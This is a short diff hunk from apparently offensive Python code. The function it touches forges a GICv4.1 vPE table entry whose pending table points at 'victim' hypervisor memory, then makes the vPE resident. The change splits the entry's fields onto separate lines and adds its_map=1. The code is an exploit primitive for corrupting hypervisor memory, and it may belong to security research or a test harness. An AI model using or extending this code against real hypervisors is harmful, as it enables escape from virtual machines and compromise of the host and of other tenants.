@@ -118,7 +118,13 @@ def _forge_vpe_table(host: HostileHost, victim: int) -> None:
     table = host.pages(16, 1 << 16)
     host.say("Write a vPE table entry whose pending table is hypervisor memory.")
     entry = VTE_V41(
-        valid=1, vpt_size=15, rd_base=_CPU, vpt_addr=victim, vconf_addr=host.pages(16, 1 << 16), default_doorbell=1023
+        valid=1,
+        vpt_size=15,
+        rd_base=_CPU,
+        vpt_addr=victim,
+        vconf_addr=host.pages(16, 1 << 16),
+        default_doorbell=1023,
+        its_map=1,
     )
     host.store(table + 3 * VTE_V41.SIZE, VTE_V41.STRUCT.pack(*entry.encode()))
     host.say("Name that table to the redistributor and make vPE 3 of it resident.")
